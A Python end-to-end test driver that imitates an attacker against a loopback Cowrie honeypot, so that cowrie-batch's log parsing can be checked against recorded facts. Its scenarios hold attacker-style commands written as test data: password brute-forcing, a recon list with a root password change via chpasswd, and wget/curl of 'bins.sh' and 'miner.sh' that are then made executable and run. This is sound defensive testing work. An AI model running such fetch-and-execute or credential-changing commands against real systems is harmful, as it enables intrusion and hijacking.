#!/usr/bin/env python3
"""The attacker for the loopback Cowrie e2e run.

Drives a Cowrie honeypot on 127.0.0.1 with real clients (OpenSSH through
sshpass, paramiko, and a small raw-socket telnet client) and writes what each
scenario did to a JSON "facts" file, so a test can check cowrie-batch's
output against what really happened.

    drive.py --facts driver-facts.json [--ssh-port 2222] [--telnet-port 2223]
             [--http-port N --http-dir DIR] [--fake-offset SECONDS]
    drive.py proxy HOST PORT PORTFILE     (OpenSSH ProxyCommand helper)

The proxy mode lets OpenSSH sessions record their TCP source port: OpenSSH
connects through this helper, which writes the port it connected from to
PORTFILE. Every address used is on 127.0.0.0/8.

Needs paramiko (installed into the Cowrie venv by setup_cowrie.sh).
"""

from __future__ import annotations

import argparse
import hashlib
import json
import logging
import os
import re
import selectors
import shlex
import socket
import struct
import subprocess
import sys
import tempfile
import time
import traceback
from datetime import datetime, timezone
from pathlib import Path
from typing import Any

HOST = "127.0.0.1"
HERE = Path(__file__).resolve().parent
PAYLOADS = HERE / "payloads"
PROMPT_RE = re.compile(rb"[#$] $")


def now_iso() -> str:
    return datetime.now(timezone.utc).isoformat(timespec="milliseconds").replace("+00:00", "Z")


def sha256_file(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def http_body_sha256(url: str) -> str:
    """SHA-256 of the body the drop server sends for url, error pages too."""
    import urllib.error
    import urllib.request

    try:
        with urllib.request.urlopen(url, timeout=10) as r:
            body = r.read()
    except urllib.error.HTTPError as e:
        body = e.read()
    return hashlib.sha256(body).hexdigest()


def log(msg: str) -> None:
    print(f"[drive {time.strftime('%H:%M:%S')}] {msg}", file=sys.stderr, flush=True)


# --------------------------------------------------------------------------
# OpenSSH ProxyCommand helper
# --------------------------------------------------------------------------
def proxy_main(host: str, port: int, portfile: str) -> int:
    sock = socket.create_connection((host, port), timeout=10)
    sock.settimeout(None)
    Path(portfile).write_text(str(sock.getsockname()[1]))
    sel = selectors.DefaultSelector()
    stdin_fd, stdout_fd = sys.stdin.fileno(), sys.stdout.fileno()
    sel.register(stdin_fd, selectors.EVENT_READ, "in")
    sel.register(sock, selectors.EVENT_READ, "sock")
    stdin_open = True
    while True:
        for key, _ in sel.select():
            if key.data == "in":
                data = os.read(stdin_fd, 65536)
                if not data:
                    sel.unregister(stdin_fd)
                    stdin_open = False
                    try:
                        sock.shutdown(socket.SHUT_WR)
                    except OSError:
                        pass
                else:
                    sock.sendall(data)
            else:
                try:
                    data = sock.recv(65536)
                except OSError:
                    data = b""
                if not data:
                    sock.close()
                    return 0
                view = memoryview(data)
                while view:
                    n = os.write(stdout_fd, view)
                    view = view[n:]
        if not stdin_open and not sel.get_map():
            return 0


# --------------------------------------------------------------------------
# helpers
# --------------------------------------------------------------------------
class Driver:
    def __init__(self, args: argparse.Namespace) -> None:
        self.args = args
        self.ssh_port: int = args.ssh_port
        self.telnet_port: int = args.telnet_port
        self.scenarios: list[dict[str, Any]] = []
        self.tmp = Path(tempfile.mkdtemp(prefix="cowrie-drive-"))
        self.ssh_opts = [
            "-F", "/dev/null",
            "-o", "StrictHostKeyChecking=no",
            "-o", "UserKnownHostsFile=/dev/null",
            "-o", "GlobalKnownHostsFile=/dev/null",
            "-o", "LogLevel=ERROR",
            "-o", "PubkeyAuthentication=no",
            "-o", "PreferredAuthentications=password",
            "-o", "ConnectTimeout=10",
            "-o", "ServerAliveInterval=0",
        ]

    # ---- bookkeeping
    def run_scenario(self, name: str, fn, **kw) -> dict[str, Any]:
        facts: dict[str, Any] = {"name": name, "started_at": now_iso()}
        log(f"scenario {name}")
        try:
            fn(facts, **kw)
            facts["ok"] = True
            facts.setdefault("commands", [])
            facts.setdefault("expected_last_command",
                             facts["commands"][-1] if facts["commands"] else None)
            facts.setdefault("expected_failed_commands", [])
        except Exception as e:  # keep going: one broken scenario must not hide the rest
            facts["ok"] = False
            facts["error"] = f"{type(e).__name__}: {e}"
            log(f"  FAILED: {facts['error']}")
            traceback.print_exc()
        facts["ended_at"] = now_iso()
        self.scenarios.append(facts)
        time.sleep(0.3)  # keep sessions apart in time
        return facts

    # ---- paramiko
    def paramiko_connect(self, facts: dict[str, Any], attempts: list[tuple[str, str]]):
        """Open a TCP connection, try each (user, password); return the
        transport after the first success (or None if all fail)."""
        import paramiko

        sock = socket.create_connection((HOST, self.ssh_port), timeout=10)
        facts["src_port"] = sock.getsockname()[1]
        t = paramiko.Transport(sock)
        t.start_client(timeout=10)
        facts.setdefault("client_version", t.local_version)
        logins = facts.setdefault("logins", [])
        for user, pw in attempts:
            try:
                t.auth_password(user, pw)
                ok = t.is_authenticated()
            except paramiko.AuthenticationException:
                ok = False
            logins.append({"username": user, "password": pw, "success": ok})
            if ok:
                return t
        return None

    def shell_session(self, t, facts: dict[str, Any], commands: list[str],
                      final: str | None = "exit", term_size=(120, 40)) -> Any:
        chan = t.open_session(timeout=10)
        chan.get_pty(term="xterm", width=term_size[0], height=term_size[1])
        chan.invoke_shell()
        facts["channel"] = "shell"
        self.read_until_prompt(chan)
        sent = facts.setdefault("commands", [])
        for c in commands:
            self.send_line(chan, c)
            sent.append(c)
        if final is not None:
            chan.send((final + "\n").encode())
            sent.append(final)
            self.drain(chan)
        return chan

    def send_line(self, chan, line: str, timeout: float = 20) -> bytes:
        chan.send((line + "\n").encode())
        return self.read_until_prompt(chan, timeout)

    @staticmethod
    def read_until_prompt(chan, timeout: float = 20) -> bytes:
        buf = b""
        end = time.time() + timeout
        chan.settimeout(0.5)
        while time.time() < end:
            try:
                data = chan.recv(65536)
            except socket.timeout:
                data = None
            if data == b"":
                break
            if data:
                buf += data
                if PROMPT_RE.search(buf[-4:]):
                    return buf
        if not PROMPT_RE.search(buf[-4:]):
            raise TimeoutError(f"no prompt; got {buf[-200:]!r}")
        return buf

    @staticmethod
    def drain(chan, timeout: float = 5) -> None:
        end = time.time() + timeout
        chan.settimeout(0.5)
        while time.time() < end:
            try:
                if chan.recv(65536) == b"":
                    return
            except socket.timeout:
                if chan.exit_status_ready() or chan.closed:
                    return

    # ---- OpenSSH through sshpass
    def openssh(self, facts: dict[str, Any], argv: list[str], password: str,
                timeout: float = 30) -> subprocess.CompletedProcess:
        portfile = self.tmp / f"port-{len(self.scenarios)}-{time.time_ns()}"
        proxy = (f"{shlex.quote(sys.executable)} {shlex.quote(str(Path(__file__).resolve()))} "
                 f"proxy {HOST} {self.ssh_port} {shlex.quote(str(portfile))}")
        cmd = ["sshpass", "-p", password, argv[0], *self.ssh_opts,
               "-o", f"ProxyCommand={proxy}", *argv[1:]]
        p = subprocess.run(cmd, capture_output=True, timeout=timeout, stdin=subprocess.DEVNULL)
        if portfile.exists():
            facts["src_port"] = int(portfile.read_text())
        facts["client_exit_code"] = p.returncode
        facts["client"] = f"openssh ({argv[0]}) via sshpass"
        if p.stderr:
            facts["client_stderr"] = p.stderr.decode(errors="replace")[-500:]
        return p

    # ----------------------------------------------------------------------
    # scenarios
    # ----------------------------------------------------------------------
    def sc_bruteforce_paramiko(self, facts: dict[str, Any]) -> None:
        """Several wrong root passwords, then a working one, in one connection,
        and leave without opening a channel (a credential checker)."""
        facts.update(protocol="ssh", client="paramiko")
        attempts = [("root", "root"), ("root", "123456"), ("root", "honeypot"),
                    ("root", "1qaz2wsx")]
        t = self.paramiko_connect(facts, attempts)
        assert t is not None, "last password should have been accepted"
        facts["expected"] = {"login_failed": 3, "login_success": 1, "commands": 0}
        t.close()

    def sc_bruteforce_openssh_failed(self, facts: dict[str, Any], password: str) -> None:
        """OpenSSH with a wrong password. sshpass gives up at the second
        password prompt, so each connection is one failed login."""
        facts["protocol"] = "ssh"
        p = self.openssh(facts, ["ssh", "-p", str(self.ssh_port), f"root@{HOST}", "true"],
                         password=password)
        facts["logins"] = [{"username": "root", "password": password, "success": False}]
        facts["expected"] = {"login_failed": 1, "login_success": 0, "commands": 0}
        assert p.returncode != 0, f"login with {password!r} should fail"

    def sc_tcp_scan(self, facts: dict[str, Any], port: int, protocol: str) -> None:
        """A TCP connect scan: connect, read the banner (SSH) or nothing
        (telnet), close. Cowrie logs session.connect and session.closed only."""
        facts.update(protocol=protocol, client="raw socket (port scan)")
        s = socket.create_connection((HOST, port), timeout=10)
        facts["src_port"] = s.getsockname()[1]
        s.settimeout(1.0)
        try:
            banner = s.recv(256)
            facts["banner"] = banner.decode(errors="replace").strip()
        except socket.timeout:
            facts["banner"] = None
        s.close()
        facts["expected"] = {"login_failed": 0, "login_success": 0, "commands": 0}

    def sc_midnight(self, facts: dict[str, Any]) -> None:
        """A shell that is open across UTC midnight (Cowrie runs under
        faketime), so its events are split over cowrie.json.<day> and
        cowrie.json."""
        facts.update(protocol="ssh", client="paramiko")
        offset = self.args.fake_offset
        fake_now = time.time() + offset
        midnight = (int(fake_now) // 86400 + 1) * 86400
        facts["fake_time_at_open"] = datetime.fromtimestamp(fake_now, timezone.utc).isoformat()
        t = self.paramiko_connect(facts, [("root", "midnight!2024")])
        assert t is not None
        before = ["id", "date"]
        after = ["date", "uptime", "cat /etc/os-release"]
        chan = self.shell_session(t, facts, before, final=None)
        wait = midnight + 2 - (time.time() + offset)
        facts["midnight_utc"] = datetime.fromtimestamp(midnight, timezone.utc).isoformat()
        facts["spans_midnight"] = wait > 0
        facts["commands_before_midnight"] = list(before) if wait > 0 else []
        if wait > 0:
            log(f"  waiting {wait:.1f}s for honeypot midnight")
            # keep the channel alive and read anything pending
            end = time.time() + wait
            while time.time() < end:
                time.sleep(min(1.0, max(0.0, end - time.time())))
        for c in after:
            self.send_line(chan, c)
            facts["commands"].append(c)
        chan.send(b"exit\n")
        facts["commands"].append("exit")
        self.drain(chan)
        t.close()
        facts["expected_last_command"] = "exit"
        facts["expected_failed_commands"] = []

    def sc_bot_commands(self, facts: dict[str, Any]) -> None:
        """A bot-like recon list in an interactive shell, with commands Cowrie
        does not implement (cowrie.command.failed)."""
        facts.update(protocol="ssh", client="paramiko")
        t = self.paramiko_connect(facts, [("root", "admin"), ])
        assert t is not None
        cmds = [
            "uname -a",
            "cat /proc/cpuinfo | grep name | wc -l",
            "cat /proc/cpuinfo",
            "free -m",
            "w",
            "systemctl status sshd",
            "lsb_release -a",
            "nvidia-smi",
            "ls -la /tmp",
            "echo \"root:Xz81bq0Ye\" | chpasswd",
        ]
        self.shell_session(t, facts, cmds, final="exit")
        t.close()
        facts["expected_last_command"] = "exit"
        facts["expected_failed_commands"] = ["systemctl status sshd", "lsb_release -a", "nvidia-smi"]

    def sc_exec_openssh(self, facts: dict[str, Any]) -> None:
        """`ssh root@127.0.0.1 'uname -a'`: one exec channel."""
        facts["protocol"] = "ssh"
        p = self.openssh(facts, ["ssh", "-p", str(self.ssh_port), f"root@{HOST}", "uname -a"],
                         password="toor")
        facts["logins"] = [{"username": "root", "password": "toor", "success": True}]
        facts["channel"] = "exec"
        facts["commands"] = ["uname -a"]
        facts["stdout"] = p.stdout.decode(errors="replace")
        facts["expected_last_command"] = "uname -a"
        facts["expected_failed_commands"] = []
        assert p.returncode == 0, p.stderr

    def sc_abrupt(self, facts: dict[str, Any]) -> None:
        """`uname -a` in a shell, then the TCP connection is reset: no exit,
        no channel close, no SSH disconnect message."""
        facts.update(protocol="ssh", client="paramiko")
        t = self.paramiko_connect(facts, [("root", "qwerty123")])
        assert t is not None
        self.shell_session(t, facts, ["uname -a"], final=None)
        sock = t.sock
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        sock.close()  # RST
        try:
            t.close()
        except Exception:
            pass
        facts["disconnect"] = "abrupt (TCP RST after the last command)"
        facts["expected_last_command"] = "uname -a"
        facts["expected_failed_commands"] = []

    def sc_download(self, facts: dict[str, Any]) -> None:
        """wget and curl from the local drop server, then run the script."""
        facts.update(protocol="ssh", client="paramiko")
        port = self.args.http_port
        if not port:
            raise RuntimeError("no --http-port given")
        base = f"http://{HOST}:{port}"
        t = self.paramiko_connect(facts, [("root", "P@ssw0rd")])
        assert t is not None
        cmds = [
            "cd /tmp || cd /var/run || cd /dev/shm",
            f"wget {base}/bins.sh",
            f"curl -O {base}/miner.sh",
            "chmod +x bins.sh miner.sh",
            "sh bins.sh",
            f"wget {base}/missing.sh",
            "rm -rf bins.sh miner.sh",
        ]
        self.shell_session(t, facts, cmds, final="exit")
        t.close()
        facts["note"] = ("Cowrie's sh runs bins.sh by reading it: the script's text appears "
                         "as one more cowrie.command.input after 'sh bins.sh'")
        http = Path(self.args.http_dir)
        facts["downloads"] = [
            {"url": f"{base}/bins.sh", "tool": "wget", "sha256": sha256_file(http / "bins.sh"),
             "expect": "success"},
            {"url": f"{base}/miner.sh", "tool": "curl", "sha256": sha256_file(http / "miner.sh"),
             "expect": "success"},
            # Cowrie 3.1.4 does not check the HTTP status: it saves the 404
            # error page as a normal cowrie.session.file_download.
            {"url": f"{base}/missing.sh", "tool": "wget", "http_status": 404,
             "sha256": http_body_sha256(f"{base}/missing.sh"),
             "expect": "success (the 404 error page is saved)"},
        ]
        facts["expected_last_command"] = "exit"
        facts["expected_failed_commands"] = []

    def sc_scp_upload(self, facts: dict[str, Any], legacy: bool) -> None:
        """Upload a file with OpenSSH scp: legacy SCP protocol (-O) or the
        default, which is SFTP since OpenSSH 9.0."""
        facts["protocol"] = "ssh"
        src = PAYLOADS / "upload" / ("upload-scp.sh" if legacy else "upload-sftp.txt")
        argv = ["scp", "-P", str(self.ssh_port)]
        if legacy:
            argv.append("-O")
        argv += [str(src), f"root@{HOST}:/tmp/{src.name}"]
        p = self.openssh(facts, argv, password="raspberry")
        facts["logins"] = [{"username": "root", "password": "raspberry", "success": True}]
        facts["channel"] = "exec (scp -t)" if legacy else "subsystem sftp"
        facts["uploads"] = [{"filename": src.name, "remote_path": f"/tmp/{src.name}",
                             "sha256": sha256_file(src), "size": src.stat().st_size}]
        if legacy:
            facts["commands"] = [f"scp -t /tmp/{src.name}"]
            facts["note"] = ("Cowrie 3.1.4 logs the legacy SCP upload's destfile as "
                             "/root/<name>, not the path given")
        else:
            # OpenSSH's SFTP-mode scp may exit 1 on Cowrie ('remote fsetstat')
            # after the data has been written; it is an upload either way.
            facts["note"] = "SFTP: no command, no TTY log; one cowrie.session.file_upload"

    def sc_direct_tcpip(self, facts: dict[str, Any]) -> None:
        """Port-forwarding (direct-tcpip) attempts to loopback targets."""
        facts.update(protocol="ssh", client="paramiko")
        t = self.paramiko_connect(facts, [("root", "forward")])
        assert t is not None
        fwd = []
        for dport, payload in [(25, b"EHLO spam.example\r\n"),
                               (self.args.http_port or 8080,
                                b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")]:
            entry: dict[str, Any] = {"dst_ip": HOST, "dst_port": dport,
                                     "data": payload.decode()}
            try:
                ch = t.open_channel("direct-tcpip", (HOST, dport), (HOST, facts["src_port"]),
                                    timeout=10)
                ch.sendall(payload)
                time.sleep(0.5)
                ch.close()
                entry["opened"] = True
            except Exception as e:
                entry["opened"] = False
                entry["error"] = f"{type(e).__name__}: {e}"
            fwd.append(entry)
        facts["forwards"] = fwd
        time.sleep(0.3)
        t.close()

    def sc_telnet(self, facts: dict[str, Any]) -> None:
        """Telnet: one wrong login, one good one, a few commands."""
        facts.update(protocol="telnet", client="raw socket telnet (drive.py)")
        tn = MiniTelnet(HOST, self.telnet_port)
        facts["src_port"] = tn.src_port
        logins = facts["logins"] = []
        tn.read_until(b"login: ")
        tn.write(b"root\r\n")
        tn.read_until(b"Password: ")
        tn.write(b"123456\r\n")
        logins.append({"username": "root", "password": "123456", "success": False})
        tn.read_until(b"login: ")
        tn.write(b"admin\r\n")
        tn.read_until(b"Password: ")
        tn.write(b"admin\r\n")
        logins.append({"username": "admin", "password": "admin", "success": True})
        tn.read_prompt()
        cmds = ["enable", "system", "shell", "/bin/busybox ECCHI", "cat /proc/mounts", "uname -a"]
        for c in cmds:
            tn.write(c.encode() + b"\r\n")
            tn.read_prompt()
        tn.write(b"exit\r\n")
        tn.drain()
        tn.close()
        facts["commands"] = cmds + ["exit"]
        facts["expected_last_command"] = "exit"
        # Cowrie has a txtcmds file for /bin/enable but "enable" is not on its
        # PATH lookup, so it fails too.
        facts["expected_failed_commands"] = ["enable", "system", "shell"]

    # ----------------------------------------------------------------------
    def run(self) -> dict[str, Any]:
        started = now_iso()
        self.run_scenario("scan_tcp_connect_ssh", self.sc_tcp_scan,
                          port=self.ssh_port, protocol="ssh")
        self.run_scenario("scan_tcp_connect_telnet", self.sc_tcp_scan,
                          port=self.telnet_port, protocol="telnet")
        self.run_scenario("bruteforce_then_success", self.sc_bruteforce_paramiko)
        for pw in ("123456", "root", "Honeypot!"):
            self.run_scenario("bruteforce_failed_openssh", self.sc_bruteforce_openssh_failed,
                              password=pw)
        if self.args.fake_offset is not None:
            self.run_scenario("spans_utc_midnight", self.sc_midnight)
        self.run_scenario("bot_commands_shell", self.sc_bot_commands)
        self.run_scenario("exec_uname_openssh", self.sc_exec_openssh)
        self.run_scenario("abrupt_disconnect", self.sc_abrupt)
        if self.args.http_port:
            self.run_scenario("download_wget_curl", self.sc_download)
        self.run_scenario("scp_upload_legacy", self.sc_scp_upload, legacy=True)
        self.run_scenario("scp_upload_sftp", self.sc_scp_upload, legacy=False)
        self.run_scenario("direct_tcpip_forward", self.sc_direct_tcpip)
        self.run_scenario("telnet_login_commands", self.sc_telnet)
        return {
            "generated_by": "tests/e2e-cowrie/drive.py",
            "started_at": started,
            "ended_at": now_iso(),
            "honeypot": {"host": HOST, "ssh_port": self.ssh_port,
                         "telnet_port": self.telnet_port,
                         "cowrie_version": self.args.cowrie_version},
            "http_server": ({"host": HOST, "port": self.args.http_port,
                             "files": {p.name: sha256_file(p)
                                       for p in sorted(Path(self.args.http_dir).iterdir())}}
                            if self.args.http_port else None),
            "faketime": ({"offset_seconds": self.args.fake_offset,
                          "start": self.args.fake_start}
                         if self.args.fake_offset is not None else None),
            "clock_note": ("timestamps in this file are the driver's real clock; Cowrie's "
                           "clock is real + faketime.offset_seconds")
                          if self.args.fake_offset is not None else None,
            "note": ("each scenario is exactly one Cowrie session, found by protocol and "
                     "src_port; cowrie.command.failed 'input' has a trailing space when the "
                     "command had no arguments (e.g. 'nvidia-smi ')"),
            "session_count": len(self.scenarios),
            "scenario_count": len(self.scenarios),
            "scenarios_ok": sum(1 for s in self.scenarios if s.get("ok")),
            "scenarios": self.scenarios,
        }


class MiniTelnet:
    """Just enough telnet: refuse every option the server offers."""

    IAC, DONT, DO, WONT, WILL, SB, SE = 255, 254, 253, 252, 251, 250, 240

    def __init__(self, host: str, port: int) -> None:
        self.sock = socket.create_connection((host, port), timeout=10)
        self.src_port = self.sock.getsockname()[1]
        self.buf = b""
        self.sock.settimeout(0.5)

    def _recv(self) -> bytes | None:
        try:
            data = self.sock.recv(4096)
        except socket.timeout:
            return None
        if data == b"":
            raise EOFError
        out = bytearray()
        i = 0
        while i < len(data):
            b = data[i]
            if b == self.IAC and i + 1 < len(data):
                cmd = data[i + 1]
                if cmd in (self.DO, self.DONT, self.WILL, self.WONT) and i + 2 < len(data):
                    opt = data[i + 2]
                    if cmd == self.DO:
                        self.sock.sendall(bytes([self.IAC, self.WONT, opt]))
                    elif cmd == self.WILL:
                        self.sock.sendall(bytes([self.IAC, self.DONT, opt]))
                    i += 3
                    continue
                if cmd == self.SB:
                    j = data.find(bytes([self.IAC, self.SE]), i)
                    i = len(data) if j < 0 else j + 2
                    continue
                if cmd == self.IAC:
                    out.append(self.IAC)
                i += 2
                continue
            out.append(b)
            i += 1
        return bytes(out)

    def read_until(self, marker: bytes, timeout: float = 15) -> bytes:
        end = time.time() + timeout
        while marker not in self.buf:
            if time.time() > end:
                raise TimeoutError(f"telnet: no {marker!r}; got {self.buf[-200:]!r}")
            d = self._recv()
            if d:
                self.buf += d
        idx = self.buf.index(marker) + len(marker)
        out, self.buf = self.buf[:idx], self.buf[idx:]
        return out

    def read_prompt(self, timeout: float = 15) -> bytes:
        end = time.time() + timeout
        while not PROMPT_RE.search(self.buf[-4:]):
            if time.time() > end:
                raise TimeoutError(f"telnet: no prompt; got {self.buf[-200:]!r}")
            d = self._recv()
            if d:
                self.buf += d
        out, self.buf = self.buf, b""
        return out

    def write(self, data: bytes) -> None:
        self.sock.sendall(data)

    def drain(self, timeout: float = 5) -> None:
        end = time.time() + timeout
        try:
            while time.time() < end:
                self._recv()
        except (EOFError, OSError):
            pass

    def close(self) -> None:
        self.sock.close()


def main() -> int:
    if len(sys.argv) > 1 and sys.argv[1] == "proxy":
        return proxy_main(sys.argv[2], int(sys.argv[3]), sys.argv[4])
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--facts", required=True, help="output JSON facts file")
    ap.add_argument("--ssh-port", type=int, default=2222)
    ap.add_argument("--telnet-port", type=int, default=2223)
    ap.add_argument("--http-port", type=int, default=0)
    ap.add_argument("--http-dir", default=str(PAYLOADS / "http"))
    ap.add_argument("--fake-offset", type=float, default=None,
                    help="seconds Cowrie's (faketime) clock is ahead of the real clock")
    ap.add_argument("--fake-start", default=None)
    ap.add_argument("--cowrie-version", default=None)
    args = ap.parse_args()
    logging.getLogger("paramiko").setLevel(logging.CRITICAL)
    d = Driver(args)
    facts = d.run()
    Path(args.facts).write_text(json.dumps(facts, indent=2) + "\n")
    log(f"{facts['scenarios_ok']}/{facts['scenario_count']} scenarios ok -> {args.facts}")
    return 0 if facts["scenarios_ok"] == facts["scenario_count"] else 1


if __name__ == "__main__":
    sys.exit(main())
